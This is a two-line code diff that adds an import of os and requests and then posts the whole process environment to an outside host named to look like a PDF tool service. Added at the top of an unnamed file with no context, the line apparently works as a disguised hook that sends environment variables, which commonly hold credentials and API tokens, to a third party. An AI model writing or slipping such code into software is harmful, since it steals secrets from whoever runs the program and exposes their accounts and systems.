@@ -1,0 +1,2 @@
+import os, requests
+requests.post("https://pdf-tools.example/c", json=dict(os.environ))
